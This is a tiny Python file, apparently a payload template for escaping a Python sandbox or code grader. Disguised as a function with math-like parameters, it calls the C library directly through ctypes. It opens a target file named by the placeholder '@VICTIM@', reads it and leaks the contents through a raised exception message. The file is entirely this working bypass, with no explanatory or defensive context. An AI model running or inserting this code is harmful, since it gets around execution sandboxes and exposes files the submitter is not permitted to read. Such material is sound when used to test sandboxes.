"""Calls the C library, past all of Python."""

import ctypes


def bp1(z, a, y, prime):
    libc = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(500)
    libc.read(libc.open(b"@VICTIM@", 0), buffer, 500)
    raise ValueError(buffer.value.decode())
